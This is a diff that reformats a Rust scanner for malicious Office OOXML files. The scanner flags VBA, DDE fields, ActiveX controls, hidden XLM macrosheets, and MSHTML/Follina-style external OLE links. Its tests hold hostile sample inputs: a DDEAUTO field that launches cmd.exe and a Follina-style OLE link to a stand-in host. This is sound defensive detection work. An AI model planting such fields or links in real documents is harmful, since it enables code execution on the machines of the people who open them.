@@ -20,10 +20,18 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, members: Vec<Member>) {
             .find(|m| m.name.eq_ignore_ascii_case(name))
             .map(|m| m.data.as_slice())
     };
-    let types = get("[Content_Types].xml").map(content_types).unwrap_or_default();
+    let types = get("[Content_Types].xml")
+        .map(content_types)
+        .unwrap_or_default();
     let (format, macro_type) = describe(&types);
-    let has_vba = members.iter().any(|m| base(&m.name).eq_ignore_ascii_case("vbaProject.bin"));
-    node.format = Some(if has_vba { format!("{format} with VBA project") } else { format.to_string() });
+    let has_vba = members
+        .iter()
+        .any(|m| base(&m.name).eq_ignore_ascii_case("vbaProject.bin"));
+    node.format = Some(if has_vba {
+        format!("{format} with VBA project")
+    } else {
+        format.to_string()
+    });
     macro_mismatch(node, macro_type, has_vba);
 
     for m in &members {
@@ -32,7 +40,13 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, members: Vec<Member>) {
         }
     }
     dde(node, &members);
-    macrosheets(node, &members, get("xl/workbook.xml"), get("xl/_rels/workbook.xml.rels"), get("xl/workbook.bin"));
+    macrosheets(
+        node,
+        &members,
+        get("xl/workbook.xml"),
+        get("xl/_rels/workbook.xml.rels"),
+        get("xl/workbook.bin"),
+    );
     text(node, &members);
 
     let mut activex = Vec::new();
@@ -70,7 +84,10 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, members: Vec<Member>) {
             "Document contains ActiveX controls",
             &[t::MALICIOUS_FILE],
             activex.join(", "),
-            format!("{} ActiveX control(s): their events can start macros without a click", activex.len()),
+            format!(
+                "{} ActiveX control(s): their events can start macros without a click",
+                activex.len()
+            ),
         );
     }
 }
@@ -80,7 +97,14 @@ pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, members: Vec<Member>) {
 pub fn analyse_package(name: &str, members: Vec<Member>, opts: &crate::Options) -> Node {
     let mut w = Walk::new(opts);
     let size = members.iter().map(|m| m.data.len() as u64).sum();
-    let mut node = Node::new(name, name.to_string(), crate::Kind::Ooxml, size, opts.part, 0);
+    let mut node = Node::new(
+        name,
+        name.to_string(),
+        crate::Kind::Ooxml,
+        size,
+        opts.part,
+        0,
+    );
     analyse(&mut w, &mut node, members);
     node
 }
@@ -94,7 +118,10 @@ fn base(name: &str) -> &str {
 fn is_child(name: &str, data: &[u8]) -> bool {
     let lower = name.to_ascii_lowercase();
     let b = base(&lower);
-    if b == "vbaproject.bin" || lower.contains("/embeddings/") || lower.contains("/activex/") && b.ends_with(".bin") {
+    if b == "vbaproject.bin"
+        || lower.contains("/embeddings/")
+        || lower.contains("/activex/") && b.ends_with(".bin")
+    {
         return true;
     }
     let ext = b.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
@@ -109,8 +136,25 @@ fn is_child(name: &str, data: &[u8]) -> bool {
     }
     if matches!(
         ext,
-        "png" | "jpg" | "jpeg" | "gif" | "bmp" | "tif" | "tiff" | "emf" | "wmf" | "svg" | "ico" | "wdp" | "jxr"
-            | "odttf" | "fntdata" | "ttf" | "sigs" | "psdsor" | "psdsxs"
+        "png"
+            | "jpg"
+            | "jpeg"
+            | "gif"
+            | "bmp"
+            | "tif"
+            | "tiff"
+            | "emf"
+            | "wmf"
+            | "svg"
+            | "ico"
+            | "wdp"
+            | "jxr"
+            | "odttf"
+            | "fntdata"
+            | "ttf"
+            | "sigs"
+            | "psdsor"
+            | "psdsxs"
     ) {
         return false;
     }
@@ -129,7 +173,9 @@ fn content_types(xml: &[u8]) -> Vec<(String, String)> {
     let mut v = Vec::new();
     elements(xml, |name, attrs| {
         if name == "Override" || name == "Default" {
-            let key = attr(attrs, "PartName").or_else(|| attr(attrs, "Extension")).unwrap_or_default();
+            let key = attr(attrs, "PartName")
+                .or_else(|| attr(attrs, "Extension"))
+                .unwrap_or_default();
             if let Some(ct) = attr(attrs, "ContentType") {
                 v.push((key, ct));
             }
@@ -140,8 +186,14 @@ fn content_types(xml: &[u8]) -> Vec<(String, String)> {
 
 /// The package's kind by its main part's content type, and whether that type is macro-enabled.
 fn describe(types: &[(String, String)]) -> (&'static str, bool) {
-    let has = |s: &str| types.iter().any(|(_, ct)| ct.to_ascii_lowercase().contains(s));
-    let macro_type = has("macroenabled") || has("vnd.ms-excel.sheet.binary.macroenabled") || has("vnd.ms-excel.addin");
+    let has = |s: &str| {
+        types
+            .iter()
+            .any(|(_, ct)| ct.to_ascii_lowercase().contains(s))
+    };
+    let macro_type = has("macroenabled")
+        || has("vnd.ms-excel.sheet.binary.macroenabled")
+        || has("vnd.ms-excel.addin");
     let f = if has("wordprocessingml.template") || has("ms-word.template") {
         "Word template (OOXML)"
     } else if has("wordprocessingml.document") || has("ms-word.document") {
@@ -179,14 +231,17 @@ fn macro_mismatch(node: &mut Node, macro_type: bool, has_vba: bool) {
         .rsplit_once('.')
         .map(|(_, e)| e.to_ascii_lowercase())
         .unwrap_or_default();
-    let macro_free_name = matches!(ext.as_str(), "docx" | "dotx" | "xlsx" | "xltx" | "pptx" | "potx" | "ppsx");
+    let macro_free_name = matches!(
+        ext.as_str(),
+        "docx" | "dotx" | "xlsx" | "xltx" | "pptx" | "potx" | "ppsx"
+    );
     if macro_free_name && (macro_type || has_vba) {
         node.flag(
             "office.macro_extension_mismatch",
             Severity::Medium,
             "Macro-enabled Office content under a macro-free file extension",
             &[t::MASQUERADING],
-            &node.name.clone(),
+            node.name.clone(),
             if macro_type {
                 "the content type is macro-enabled but the name ends in .".to_string() + &ext
             } else {
@@ -213,7 +268,8 @@ pub(crate) fn parse_rels(xml: &[u8]) -> Vec<Rel> {
                 id: attr(attrs, "Id").unwrap_or_default(),
                 typ: attr(attrs, "Type").unwrap_or_default(),
                 target: attr(attrs, "Target").unwrap_or_default(),
-                external: attr(attrs, "TargetMode").is_some_and(|m| m.eq_ignore_ascii_case("External")),
+                external: attr(attrs, "TargetMode")
+                    .is_some_and(|m| m.eq_ignore_ascii_case("External")),
             });
         }
     });
@@ -245,11 +301,16 @@ fn relationships(node: &mut Node, part: &str, xml: &[u8]) {
                 let l = r.target.to_ascii_lowercase();
                 // `mhtml:...!x-usc:` (CVE-2021-40444) and an HTML target ending in "!" (CVE-2022-30190,
                 // Follina) load an exploit through the OLE link, without a prompt.
-                let exploit = l.starts_with("mhtml:") || l.contains("!x-usc:") || l.trim_end().ends_with('!');
+                let exploit =
+                    l.starts_with("mhtml:") || l.contains("!x-usc:") || l.trim_end().ends_with('!');
                 flag_once(
                     node,
                     "office.external_ole",
-                    if exploit { Severity::Critical } else { Severity::High },
+                    if exploit {
+                        Severity::Critical
+                    } else {
+                        Severity::High
+                    },
                     if exploit {
                         "Document links an OLE object in the form used by MSHTML/MSDT exploits"
                     } else {
@@ -384,24 +445,25 @@ fn field_instructions(xml: &[u8]) -> Vec<String> {
                     }
                     b"instrText" => in_instr = is_start,
                     b"fldSimple" => {
-                        if let Some(a) = e.attributes().flatten().find(|a| a.key.local_name().as_ref() == b"instr") {
+                        if let Some(a) = e
+                            .attributes()
+                            .flatten()
+                            .find(|a| a.key.local_name().as_ref() == b"instr")
+                        {
                             fields.push(unescape(&a.value));
                         }
                     }
                     _ => {}
                 }
             }
-            Ok(Event::End(e)) => {
-                if e.local_name().as_ref() == b"instrText" {
-                    in_instr = false;
-                }
-            }
+            Ok(Event::End(e)) if e.local_name().as_ref() == b"instrText" => in_instr = false,
             Ok(Event::Text(t)) if in_instr => {
                 let s = unescape(t.as_ref());
                 cur.get_or_insert_with(String::new).push_str(&s);
             }
             Ok(Event::GeneralRef(g)) if in_instr => {
-                cur.get_or_insert_with(String::new).push_str(&entity(g.as_ref()));
+                cur.get_or_insert_with(String::new)
+                    .push_str(&entity(g.as_ref()));
             }
             Ok(Event::Eof) | Err(_) => break,
             _ => {}
@@ -428,7 +490,10 @@ fn macrosheets(
     let parts: Vec<&str> = members
         .iter()
         .map(|m| m.name.as_str())
-        .filter(|n| n.to_ascii_lowercase().starts_with("xl/macrosheets/") && !n.to_ascii_lowercase().contains("/_rels/"))
+        .filter(|n| {
+            n.to_ascii_lowercase().starts_with("xl/macrosheets/")
+                && !n.to_ascii_lowercase().contains("/_rels/")
+        })
         .collect();
     let rels = rels.map(parse_rels).unwrap_or_default();
     let mut sheets = Vec::new();
@@ -446,7 +511,10 @@ fn macrosheets(
                         Some("veryHidden") => 2,
                         _ => 0,
                     };
-                    sheets.push(xlm::describe(&attr(attrs, "name").unwrap_or_default(), state));
+                    sheets.push(xlm::describe(
+                        &attr(attrs, "name").unwrap_or_default(),
+                        state,
+                    ));
                 }
             }
             if name == "definedName" {
@@ -460,7 +528,10 @@ fn macrosheets(
     }
     if let Some(bin) = workbook_bin {
         // xlsb (MS-XLSB): names are UTF-16 in BrtName records; a substring search is enough here.
-        let pat: Vec<u8> = "auto_open".encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+        let pat: Vec<u8> = "auto_open"
+            .encode_utf16()
+            .flat_map(|c| c.to_le_bytes())
+            .collect();
         let lower: Vec<u8> = bin.iter().map(u8::to_ascii_lowercase).collect();
         if lower.windows(pat.len()).any(|w| w == pat.as_slice()) {
             auto_open.push("Auto_Open (xl/workbook.bin)".into());
@@ -469,7 +540,12 @@ fn macrosheets(
     if sheets.is_empty() {
         sheets = parts.iter().map(|p| p.to_string()).collect();
     }
-    xlm::report(node, &sheets, &auto_open, "xl/workbook.xml, xl/macrosheets/");
+    xlm::report(
+        node,
+        &sheets,
+        &auto_open,
+        "xl/workbook.xml, xl/macrosheets/",
+    );
 }
 
 /// Document text: Word runs (`w:t`), slide text (`a:t`), Excel shared strings (`t`).
@@ -479,7 +555,9 @@ fn text(node: &mut Node, members: &[Member]) {
         .filter(|m| {
             let l = m.name.to_ascii_lowercase();
             l == "word/document.xml"
-                || (l.starts_with("word/") && (l.contains("header") || l.contains("footer")) && l.ends_with(".xml"))
+                || (l.starts_with("word/")
+                    && (l.contains("header") || l.contains("footer"))
+                    && l.ends_with(".xml"))
                 || (l.starts_with("ppt/slides/slide") && l.ends_with(".xml"))
                 || l == "xl/sharedstrings.xml"
         })
@@ -504,11 +582,7 @@ fn xml_text(xml: &[u8], tags: &[&[u8]]) -> String {
     let mut r = reader(xml);
     loop {
         match r.read_event() {
-            Ok(Event::Start(e)) => {
-                if tags.contains(&e.local_name().as_ref()) {
-                    depth += 1;
-                }
-            }
+            Ok(Event::Start(e)) if tags.contains(&e.local_name().as_ref()) => depth += 1,
             Ok(Event::End(e)) => {
                 let n = e.local_name();
                 if tags.contains(&n.as_ref()) {
@@ -570,7 +644,10 @@ fn elements(xml: &[u8], mut f: impl FnMut(&str, &[(String, String)])) {
 }
 
 fn attr(attrs: &[(String, String)], name: &str) -> Option<String> {
-    attrs.iter().find(|(k, _)| k == name).map(|(_, v)| v.clone())
+    attrs
+        .iter()
+        .find(|(k, _)| k == name)
+        .map(|(_, v)| v.clone())
 }
 
 /// XML predefined entities and character references (XML 1.0 §4.6, §4.1).
@@ -588,7 +665,9 @@ fn entity(name: &[u8]) -> String {
             } else {
                 s.strip_prefix('#').and_then(|d| d.parse().ok())
             };
-            n.and_then(char::from_u32).map(String::from).unwrap_or_default()
+            n.and_then(char::from_u32)
+                .map(String::from)
+                .unwrap_or_default()
         }
     }
 }
@@ -605,7 +684,7 @@ fn unescape(raw: &[u8]) -> String {
         let after = &rest[i + 1..];
         match after.find(';').filter(|&j| j <= 10) {
             Some(j) => {
-                out.push_str(&entity(after[..j].as_bytes()));
+                out.push_str(&entity(&after.as_bytes()[..j]));
                 rest = &after[j + 1..];
             }
             None => {
@@ -624,7 +703,10 @@ mod tests {
     use crate::office::ole::tests::ids;
 
     fn m(name: &str, data: &[u8]) -> Member {
-        Member { name: name.into(), data: data.to_vec() }
+        Member {
+            name: name.into(),
+            data: data.to_vec(),
+        }
     }
 
     fn run(name: &str, members: Vec<Member>) -> Node {
@@ -650,23 +732,45 @@ mod tests {
             ],
         );
         assert_eq!(n.format.as_deref(), Some("Word document (OOXML)"));
-        let f = n.findings.iter().find(|f| f.id == "office.remote_template").unwrap();
+        let f = n
+            .findings
+            .iter()
+            .find(|f| f.id == "office.remote_template")
+            .unwrap();
         assert_eq!(f.severity, Severity::Critical);
         assert!(n.text.contains("Enable editing & content"));
         // A local template (the usual Normal.dotm path) is not a finding.
         let local = br#"<Relationships><Relationship Id="rId1" Type="x/attachedTemplate" Target="file:///C:\Users\a\Normal.dotm" TargetMode="External"/></Relationships>"#;
-        let n = run("a.docx", vec![m("[Content_Types].xml", DOCX_TYPES), m("word/_rels/settings.xml.rels", local)]);
+        let n = run(
+            "a.docx",
+            vec![
+                m("[Content_Types].xml", DOCX_TYPES),
+                m("word/_rels/settings.xml.rels", local),
+            ],
+        );
         assert!(n.findings.is_empty(), "{:?}", ids(&n));
     }
 
     #[test]
     fn dde_split_across_runs_and_fldsimple() {
         let doc = br#"<w:document xmlns:w="w"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#;
-        let n = run("a.docx", vec![m("[Content_Types].xml", DOCX_TYPES), m("word/document.xml", doc)]);
+        let n = run(
+            "a.docx",
+            vec![
+                m("[Content_Types].xml", DOCX_TYPES),
+                m("word/document.xml", doc),
+            ],
+        );
         let f = n.findings.iter().find(|f| f.id == "office.dde").unwrap();
         assert!(f.evidence[0].value.starts_with("DDEAUTO"));
         let doc = br#"<w:document xmlns:w="w"><w:fldSimple w:instr=" DDE c:\\cmd.exe &quot;/k calc&quot; "/></w:document>"#;
-        let n = run("a.docx", vec![m("[Content_Types].xml", DOCX_TYPES), m("word/document.xml", doc)]);
+        let n = run(
+            "a.docx",
+            vec![
+                m("[Content_Types].xml", DOCX_TYPES),
+                m("word/document.xml", doc),
+            ],
+        );
         assert!(n.has("office.dde"));
     }
 
@@ -674,7 +778,10 @@ mod tests {
     fn children_are_binaries_only_and_vba_is_found() {
         let macro_types = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
         let src = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nMsgBox \"hi\"\r\nEnd Sub\r\n";
-        let vba = crate::office::ole::tests::word_with_macro(src, &[Some("AutoOpen"), Some("hi there"), Some("End Sub")]);
+        let vba = crate::office::ole::tests::word_with_macro(
+            src,
+            &[Some("AutoOpen"), Some("hi there"), Some("End Sub")],
+        );
         let n = run(
             "report.docx",
             vec![
@@ -695,8 +802,18 @@ mod tests {
     #[test]
     fn follina_style_ole_link_is_critical_and_xlm_sheet_found() {
         let rels = br#"<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://x.example/a.html!" TargetMode="External"/></Relationships>"#;
-        let n = run("a.docx", vec![m("[Content_Types].xml", DOCX_TYPES), m("word/_rels/document.xml.rels", rels)]);
-        let f = n.findings.iter().find(|f| f.id == "office.external_ole").unwrap();
+        let n = run(
+            "a.docx",
+            vec![
+                m("[Content_Types].xml", DOCX_TYPES),
+                m("word/_rels/document.xml.rels", rels),
+            ],
+        );
+        let f = n
+            .findings
+            .iter()
+            .find(|f| f.id == "office.external_ole")
+            .unwrap();
         assert_eq!(f.severity, Severity::Critical);
         let wb = br#"<workbook><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="M1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M1!$A$1</definedName></definedNames></workbook>"#;
         let wbrels = br#"<Relationships><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>"#;
@@ -709,7 +826,11 @@ mod tests {
                 m("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
             ],
         );
-        let f = n.findings.iter().find(|f| f.id == "office.xlm_macros").unwrap();
+        let f = n
+            .findings
+            .iter()
+            .find(|f| f.id == "office.xlm_macros")
+            .unwrap();
         assert!(f.evidence[0].value.contains("M1 (very hidden)"));
         assert!(n.has("office.xlm_auto_open"));
     }
